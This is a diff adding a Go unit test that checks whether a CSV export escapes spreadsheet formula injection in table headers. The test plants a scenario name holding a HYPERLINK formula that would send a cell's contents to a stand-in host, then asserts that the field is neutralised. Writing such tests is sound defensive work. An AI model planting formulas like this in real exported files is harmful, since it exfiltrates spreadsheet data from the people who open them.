@@ -204,3 +204,38 @@ func TestJSONNaNIsNull(t *testing.T) {
 	}
 	t.Fatal("no summary table")
 }
+
+// TestCSVEscapesHeaders writes a run whose scenario name is a formula: the
+// Manifest's column for it, headed by the name, is escaped as every input
+// field is, in every table's header.
+func TestCSVEscapesHeaders(t *testing.T) {
+	evil := `=HYPERLINK("http://example.invalid/?leak="&A1,"Click")`
+	dir := filepath.Join(t.TempDir(), "out")
+	sc := testScenario(t, "Baseline", 50)
+	sc.Name = evil
+	if err := WriteCSV(context.Background(), dir, []Run{testRun(t, sc)}, Options{}); err != nil {
+		t.Fatal(err)
+	}
+	entries, err := os.ReadDir(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, e := range entries {
+		b, err := os.ReadFile(filepath.Join(dir, e.Name()))
+		if err != nil {
+			t.Fatal(err)
+		}
+		header, _, _ := strings.Cut(string(b), "\n")
+		for _, f := range strings.Split(header, ",") {
+			f = strings.Trim(f, `"`)
+			if dangerous(f) {
+				t.Errorf("%s: header field %q is read as a formula", e.Name(), f)
+			}
+			found = found || strings.HasPrefix(f, "'=HYPERLINK")
+		}
+	}
+	if !found {
+		t.Error("no header holds the escaped scenario name")
+	}
+}
